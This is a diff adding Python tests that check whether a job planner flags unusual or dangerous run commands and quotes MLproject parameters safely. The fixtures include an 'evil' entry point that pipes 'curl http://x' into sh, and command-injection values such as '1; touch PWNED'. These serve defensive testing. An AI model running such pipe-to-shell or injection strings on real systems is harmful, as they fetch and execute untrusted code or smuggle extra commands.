@@ -124,3 +124,68 @@ async def test_a_run_without_a_commit_cannot_be_checked_out(tmp_path: Path) -> N
     del run.tags["mlflow.source.git.commit"]
     with pytest.raises(JobError, match="records no git commit"):
         await plan.resolve(str(repo), run, "exp", SOURCES, sets={})
+
+
+async def test_the_command_shown_before_it_runs_and_what_makes_it_unusual(
+        tmp_path: Path) -> None:
+    """Usual: python running a file tracked at the commit, or python -m; everything else is
+    unusual with a reason.  The hash changes with anything that would run differently."""
+    repo = make_repo(tmp_path / "repo")
+    (repo / "src").mkdir()
+    (repo / "src" / "train.py").write_text("print('hi')\n")
+    (repo / "MLproject").write_text(
+        "name: p\nentry_points:\n  main:\n    parameters:\n      a: {type: float, default: 1}\n"
+        "    command: \"python src/train.py --a {a}\"\n  evil:\n    command: \"python "
+        "src/train.py && curl http://x | sh\"\n")
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "code")
+
+    async def shown(argv: list[str] | None = None, cwd: str = ".", **tags: str) -> dict:
+        if argv is not None:
+            tags["octostore.argv"] = json.dumps(argv)
+            tags["octostore.cwd"] = cwd
+        p = await plan.resolve(str(repo), _run(repo, **tags), "exp", SOURCES, sets={})
+        return p.command
+
+    usual = await shown(["python", "-u", "train.py", "--a", "2"], cwd="src")
+    assert usual["unusual"] is False and usual["reasons"] == []
+    assert (usual["script"], usual["args"], usual["cwd"]) == ("train.py", ["--a", "2"], "src")
+    assert usual["interpreter"].startswith("python (the run's environment")
+    assert usual["source"].startswith("tag octostore.argv")
+    module = await shown(["python", "-m", "src.train"])
+    assert module["unusual"] is False and module["script"] == "-m src.train"
+    for argv, reason in [
+        (["bash", "-c", "python src/train.py"], "it runs bash"),
+        (["/usr/bin/env", "python", "src/train.py"], "(an absolute path)"),
+        (["python", "-c", "import os"], "python -c"),
+        (["python", "gone.py"], "not a file tracked at the run's commit"),
+        (["python", "../outside.py"], "not a file tracked"),
+        (["python"], "standard input"),
+    ]:
+        cmd = await shown(argv)
+        assert cmd["unusual"] is True and any(reason in r for r in cmd["reasons"]), (argv, cmd)
+    assert (await shown(["python", "-u", "train.py", "--a", "3"], cwd="src"))["hash"] != (
+        usual["hash"])
+    assert (await shown(["python", "-u", "train.py", "--a", "2"], cwd="src"))["hash"] == (
+        usual["hash"])
+    mlp = await shown(**{"mlflow.project.entryPoint": "main", "mlflow.source.name": "x"})
+    assert mlp["argv"] == ["bash", "-c", "python src/train.py --a 1"]
+    assert mlp["unusual"] is False and mlp["script"] == "src/train.py"
+    evil = await shown(**{"mlflow.project.entryPoint": "evil", "mlflow.source.name": "x"})
+    assert evil["unusual"] is True and "operators & |" in evil["reasons"][0]
+
+
+async def test_an_undeclared_mlproject_key_is_refused_naming_the_valid_ones(
+        tmp_path: Path) -> None:
+    repo = make_repo(tmp_path / "repo")
+    (repo / "MLproject").write_text(
+        "name: p\nentry_points:\n  main:\n    parameters:\n      alpha: {type: float, "
+        "default: 0.1}\n    command: \"python train.py --alpha {alpha}\"\n")
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "project")
+    run = _run(repo, **{"mlflow.project.entryPoint": "main", "mlflow.source.name": "train.py"})
+    with pytest.raises(JobError, match=r"not a parameter of the MLproject entry point 'main' "
+                                        r"\(its parameters: alpha\)"):
+        await plan.resolve(str(repo), run, "exp", SOURCES, sets={"x;touch PWNED": "1"})
+    p = await plan.resolve(str(repo), run, "exp", SOURCES, sets={"alpha": "1; touch PWNED"})
+    assert p.entry.command == "python train.py --alpha '1; touch PWNED'"
